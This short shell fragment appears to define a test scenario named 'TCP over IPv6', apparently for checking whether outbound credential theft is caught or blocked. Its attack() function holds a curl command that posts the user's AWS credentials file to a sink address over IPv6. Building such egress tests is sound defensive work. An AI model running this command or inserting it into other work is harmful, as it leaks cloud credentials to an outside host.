# SPDX-License-Identifier: Apache-2.0
TITLE="TCP over IPv6"
ROW="N10 E25"
DEST="*$SINK6*"
attack() { curl -s -m 5 --data-binary @"$HOME/.aws/credentials" "http://[$SINK6]/"; }
